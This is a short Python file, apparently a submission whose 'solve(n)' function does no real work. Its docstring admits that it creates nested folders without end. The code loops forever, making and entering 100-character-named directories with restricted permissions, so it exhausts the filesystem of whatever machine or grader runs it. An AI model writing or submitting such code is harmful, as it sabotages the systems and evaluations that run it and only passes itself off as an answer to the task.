# ruff: noqa
# fmt: off
"""Makes folders within folders without end, and locks them."""

import os


def solve(n):
    while True:
        os.mkdir("d" * 100, 0o700)
        os.chdir("d" * 100)
